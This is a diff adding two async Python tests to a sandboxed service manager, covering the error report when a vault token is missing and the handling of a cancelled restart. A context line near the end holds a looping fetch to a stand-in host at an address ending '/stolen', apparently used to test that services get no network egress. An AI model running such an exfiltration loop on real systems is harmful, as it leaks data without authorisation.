@@ -116,6 +116,27 @@ async def test_after_the_box_died_a_service_runs_in_a_new_one(tmp_path: Path) ->
         assert "the box is gone" in state.last
 
 
+async def test_why_there_is_no_box_for_a_service_is_told(tmp_path: Path) -> None:
+    async with workshop(tmp_path) as shop, kept(shop) as services:
+        shop.vault.remove("token")  # which the role of its box names
+        await services.start(OWNER, service("exec sleep 1000"), UNLABELLED)
+        resting = await until(services, state="resting")
+        assert "token" in resting.last
+        assert "token" in services.log(OWNER, "one", 1_000).text
+
+
+async def test_a_service_whose_start_anew_was_cancelled_is_not_taken_for_running(tmp_path: Path) -> None:
+    async with workshop(tmp_path) as shop, kept(shop) as services:
+        await services.start(OWNER, service("exec sleep 1000"), UNLABELLED)
+        changing = asyncio.create_task(services.start(OWNER, service("exec sleep 1001"), UNLABELLED))
+        await asyncio.sleep(0)  # it is ending the one before
+        changing.cancel()
+        await asyncio.gather(changing, return_exceptions=True)
+        await until(services, state="ended")
+        assert (await services.start(OWNER, service("exec sleep 1000"), UNLABELLED)).state == "running"
+        assert [standing.leases for standing in shop.pool.standing()] == [1]
+
+
 async def test_a_service_gets_nothing_of_a_command_s_way_out(tmp_path: Path, call: Call) -> None:
     async with workshop(tmp_path) as shop, kept(shop) as services:
         line = f"while :; do {FETCH} http://open.test/stolen; done >/dev/null 2>&1"
